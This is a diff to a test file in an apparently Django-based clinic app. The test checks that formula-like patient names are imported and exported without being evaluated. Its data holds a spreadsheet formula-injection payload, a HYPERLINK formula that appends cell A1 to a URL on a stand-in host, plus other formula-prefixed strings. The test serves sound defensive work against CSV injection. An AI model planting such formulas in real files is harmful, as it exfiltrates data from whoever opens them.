@@ -9,27 +9,32 @@ from django.apps import apps
 from pghistory.models import Event
 
 from clinic.embedded.home import CHECKOUT
+from clinic.lib.tables import Table, read_table
 from clinic.outbox.models import LetterState
 from clinic.staff.models import User
 from patients.birth import Birth
-from patients.importing import import_people, read_people
+from patients.importing import heads
 from patients.models import AccessLink, Patient
 from scheduling.exporting import scope
 from scheduling.exporting.sheets import HANDED_OUT_BYTES, archive, zipped
 from scheduling.exporting.tables import APPS, KEYS, LEFT_OUT, tables
 from tests.clinic.world import World
-from tests.patients.making import NOW, person, place
+from tests.patients.importing.making import saved
+from tests.patients.making import NOW, person
 from tests.scheduling.exporting.reading import files_in, tables_in, tables_of
 
 FORMULAS = CHECKOUT / "tests" / "files" / "imports" / "patients_formula_names.csv"
+
+
+def read_people(content: bytes) -> Table:
+    return read_table(content, heads=heads.PERSON, needed=heads.NEEDED["people"])
 
 
 @pytest.mark.django_db
 def test_btx_070_names_that_run_come_in_go_out_quietly_and_come_back() -> None:
     """BTX-070: stored as they were in the file; no cell of ours runs, a phone is one; read back they are the same."""
     stated = read_people(FORMULAS.read_bytes())
-    outcomes = import_people(table=stated, location=place(), by=None, now=NOW)
-    assert [outcome.problem for outcome in outcomes] == [""] * 4
+    assert saved(FORMULAS.read_bytes()).counts["new"] == 4
     names = ['=HYPERLINK("https://example.invalid/?x="&A1,"Open")', "+SUM(1,1)", "-Devi", "@cmd"]
     assert [patient.given_name for patient in Patient.objects.order_by("source_key")] == names
     packed = b"".join(zipped(Patient.objects.all()))
